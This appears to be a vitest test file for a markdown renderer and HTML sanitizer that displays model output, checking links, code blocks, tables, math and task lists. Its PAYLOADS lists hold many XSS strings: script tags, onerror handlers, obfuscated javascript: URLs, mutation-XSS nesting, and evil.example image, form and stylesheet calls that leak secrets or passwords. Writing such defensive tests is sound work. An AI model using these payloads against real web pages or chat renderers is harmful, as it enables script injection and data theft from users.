import { beforeEach, expect, test } from "vitest";
import { markdown, purify, render } from "./markdown.ts";

let box: HTMLElement;

beforeEach(() => {
  box = document.createElement("div");
});

function show(text: string): HTMLElement {
  const env = {};
  box.replaceChildren(render(markdown.parse(text, env), env));
  return box;
}

/** Return everything that a browser would act on instead of only showing it. */
function dangers(root: HTMLElement): string[] {
  const found: string[] = [];
  const active = "img,svg,style,form,input,script,iframe,object,embed,video,audio,link,meta,base,math";
  for (const node of root.querySelectorAll(active)) found.push(node.tagName);
  for (const node of root.querySelectorAll("*")) {
    for (const { name, value } of node.attributes) {
      if (name.startsWith("on") || ["style", "src", "srcset", "srcdoc", "action"].includes(name)) {
        found.push(name);
      }
      const isLink = ["href", "xlink:href", "formaction"].includes(name);
      if (isLink && !/^(https?:\/\/|mailto:)/i.test(value)) found.push(`${name}=${value}`);
    }
  }
  return found;
}

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "![x](https://evil.example/?secret=1)",
  '![x](https://evil.example/a.png "t" onload=alert(1))',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/path)",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<form action="https://evil.example"><input name=password></form>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<style>@import url(https://evil.example/x.css);</style>",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
  '[x](https://ok.example "\\"><img src=x onerror=alert(1)>")',
  "<details open ontoggle=alert(1)>x</details>",
  "`<img src=x onerror=alert(1)>`",
];

test.each(PAYLOADS)("nothing is executed or loaded from %j", (payload) => {
  expect(dangers(show(payload))).toEqual([]);
});

test.each([
  "<img src=x onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<p style="position:fixed" onclick="alert(1)">x</p>',
  "<svg><script>alert(1)</script></svg>",
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<a href="https://ok.example" data-x="1" id="page" name="x" aria-label="y">x</a>',
])("the sanitizer alone is sufficient: %j", (html) => {
  box.replaceChildren(purify(html));

  expect(dangers(box)).toEqual([]);
  expect(box.querySelector("[id], [name], [data-x], [aria-label]")).toBeNull();
});

test("HTML from a model is shown as text", () => {
  expect(show("<b>bold</b> & more").textContent).toContain("<b>bold</b> & more");
});

test("a link opens in a new tab without a referrer", () => {
  const link = show("[docs](https://docs.example/a?b=1)").querySelector("a")!;

  expect(link.getAttribute("href")).toBe("https://docs.example/a?b=1");
  expect(link.rel).toContain("noopener");
  expect(link.rel).toContain("noreferrer");
  expect(link.target).toBe("_blank");
});

test("of the product's pages only the one that connects a model can be linked to", () => {
  show("[Connect a model](/settings/providers/) [x](/settings/keys/) [y](/settings/providers/../keys/)");

  const links = [...box.querySelectorAll("a")];
  expect(links.map((link) => link.getAttribute("href"))).toEqual(["/settings/providers/"]);
  expect(links[0]!.target).toBe("");
});

test("a URL becomes a link, a file name does not", () => {
  show("See https://ok.example and mailto:a@ok.example, not notes.md or a@b.c");

  expect([...box.querySelectorAll("a")].map((link) => link.getAttribute("href"))).toEqual([
    "https://ok.example",
    "mailto:a@ok.example",
  ]);
});

test("an image becomes a link and is never fetched", () => {
  const link = show("![A chart](https://ok.example/c.png)").querySelector("a");

  expect(link?.textContent).toBe("A chart");
  expect(link?.getAttribute("href")).toBe("https://ok.example/c.png");
});

test("a code block has its language, its unchanged text and a copy button", () => {
  show('```python\nprint("<b>")\n```');

  expect(box.querySelector(".code-head span")?.textContent).toBe("python");
  expect(box.querySelector("pre")?.textContent).toBe('print("<b>")\n');
  expect(box.querySelector("[data-copy-code]")?.textContent).toBe("Copy");
  expect(box.querySelector("pre")?.tabIndex).toBe(0);
});

test("columns are aligned without inline styles", () => {
  show("| a | b |\n|---|--:|\n| 1 | 2 |");

  expect(box.querySelector("td.is-right")?.textContent).toBe("2");
  expect(box.querySelector("[style]")).toBeNull();
  expect(box.querySelector(".table-box > table")).not.toBeNull();
});

test("headings start below those of the page", () => {
  show("# One\n\n### Three\n\n###### Six");

  expect([...box.children].map((node) => node.tagName)).toEqual(["H3", "H5", "H6"]);
});

test("formulas are code until they are drawn, and prices stay text", () => {
  show("$x^2$ costs $5 to $10, \\(y\\) and $$\\frac{1}{2}$$, not `$z$`");

  const found = [...box.querySelectorAll("code.math")].map((one) => [one.textContent, one.className]);
  expect(found).toEqual([
    ["x^2", "math"],
    ["y", "math"],
    ["\\frac{1}{2}", "math is-block"],
  ]);
  expect(box.textContent).toContain("costs $5 to $10");
});

test("tasks are open or done", () => {
  show("- [x] done\n- [ ] open\n- [no] link");

  expect([...box.querySelectorAll("li.is-task")].map((one) => one.textContent)).toEqual(["☑ done", "☐ open"]);
});

test("code can be wrapped", () => {
  show("```\nlong\n```");
  box.querySelector<HTMLElement>("[data-wrap-code]")!.click();

  expect(box.querySelector(".code-box")!.hasAttribute("data-wrapped")).toBe(true);
});
